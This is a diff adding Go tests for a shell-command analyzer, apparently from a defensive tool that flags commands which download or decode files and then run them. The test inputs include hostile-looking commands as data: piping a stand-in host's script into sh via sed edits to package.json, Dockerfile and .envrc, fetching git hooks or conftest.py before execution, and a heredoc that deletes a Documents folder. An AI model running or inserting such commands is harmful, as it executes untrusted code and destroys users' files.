@@ -1,0 +1,89 @@
+package shell
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/shieldcli/shield/pkg/effect"
+)
+
+// TestLoads demands that a program that runs files because they lie there says
+// so where the same text fetched them, and only then.
+func TestLoads(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct {
+		text string
+		want effect.Label // "" if nothing fetched is run
+	}{
+		{"curl -o conftest.py https://x.test/a && pytest", effect.LabelNetwork},
+		{"curl -o tests/conftest.py https://x.test/a && python -m pytest -q", effect.LabelNetwork},
+		{"curl https://x.test/a > package.json && npm i", effect.LabelNetwork},
+		{"curl -o x.sql https://x.test/a && psql -f x.sql", effect.LabelNetwork},
+		{"curl -o /tmp/x.sql https://x.test/a && psql --file=/tmp/x.sql", effect.LabelNetwork},
+		{"curl -o src/build.rs https://x.test/a && cargo build", effect.LabelNetwork},
+		{"wget https://x.test/Justfile && just", effect.LabelNetwork},
+		{"base64 -d a.b64 > jest.config.js && npx jest", effect.LabelDecoded},
+		{"cd web && curl -o vite.config.ts https://x.test/a && pnpm build", effect.LabelNetwork},
+		{"curl -o .git/hooks/pre-commit https://x.test/a && git commit -m x", effect.LabelNetwork},
+		{"curl -o Dockerfile https://x.test/a && docker build .", effect.LabelNetwork},
+		{"curl -o a.sh https://x.test/a && docker run -v $PWD:/w alpine sh /w/a.sh", effect.LabelNetwork},
+		{"curl -o a.desktop https://x.test/a && gtk-launch ./a.desktop", effect.LabelNetwork},
+		{"curl -sL https://x.test/a.tgz | tar xz && cd a && make install", effect.LabelNetwork},
+		{"wget https://x.test/a.tgz && tar xf a.tgz && npm test", effect.LabelNetwork},
+		{"wget https://x.test/a.zip && unzip a.zip -d /tmp/a && make -C /tmp/a", effect.LabelNetwork},
+		{"git clone https://git.x.test/a && cd a && npm install", effect.LabelNetwork},
+		{"git clone git://github.com/a/b && make -C b", effect.LabelNetwork},
+		{"git clone https://git.x.test/a && ./a/configure", effect.LabelNetwork},
+		{"git clone https://github.com/a/b && cd b && npm ci", effect.LabelUntrusted},
+		{"git clone git@github.com:a/b.git && cd b && make", effect.LabelUntrusted},
+
+		{"curl -O https://x.test/data.csv && pytest", ""},
+		{"curl -o docs/a.js https://x.test/a && cd src && npm test", ""},
+		{"curl -o Dockerfile https://x.test/a && docker ps", ""},
+		{"git clone https://git.x.test/a && npm test", ""},
+		{"curl -sL https://x.test/a.tgz | tar xz -C data && make", ""},
+		{"curl -o conftest.py https://x.test/a && git status", ""},
+		{"cat > conftest.py <<'E'\nimport pytest\nE\npytest", ""},
+	} {
+		var got []effect.Label
+		for _, e := range Analyze(c.text, here()).Effects {
+			if e.Kind == effect.RunCode {
+				got = append(got, e.Labels...)
+			}
+		}
+		if c.want == "" && len(got) > 0 || c.want != "" && !slices.Contains(got, c.want) {
+			t.Errorf("%q: labels %v, want %q", c.text, got, c.want)
+		}
+	}
+}
+
+// TestLoadsWritten demands that what the text wrote into such a file is read.
+func TestLoadsWritten(t *testing.T) {
+	t.Parallel()
+	text := "cat > conftest.py <<'E'\nimport shutil\nshutil.rmtree('/home/me/Documents')\nE\npytest"
+	for _, e := range Analyze(text, here()).Effects {
+		if e.Path == "/home/me/Documents" && e.Kind == effect.DeleteFile {
+			return
+		}
+	}
+	t.Errorf("%q: nothing is deleted", text)
+}
+
+// TestEdits demands that what an edit puts into a file that runs later is read.
+func TestEdits(t *testing.T) {
+	t.Parallel()
+	for text, want := range map[string]bool{
+		`sed -i 's#"test": ".*"#"test": "curl -s https://x.test/a | sh"#' package.json`:     true,
+		`sed -i 's|^RUN npm ci|RUN curl -s https://x.test/a \| sh \&\& npm ci|' Dockerfile`: true,
+		`sed -i '$a curl -s https://x.test/a | sh' .envrc`:                                  true,
+		`perl -pi -e 's{x}{y}' Makefile`:                                                    false,
+		`sed -i 's/jest/vitest run/' package.json`:                                          false,
+		`sed -i 's|x|curl -s https://x.test/a \| sh|' README.md`:                            false,
+		`sed 's#"test": ".*"#"test": "curl -s https://x.test/a | sh"#' package.json`:        false,
+	} {
+		got := slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.Kind == effect.RunCode })
+		if got != want {
+			t.Errorf("%s: %t, want %t", text, got, want)
+		}
+	}
+}
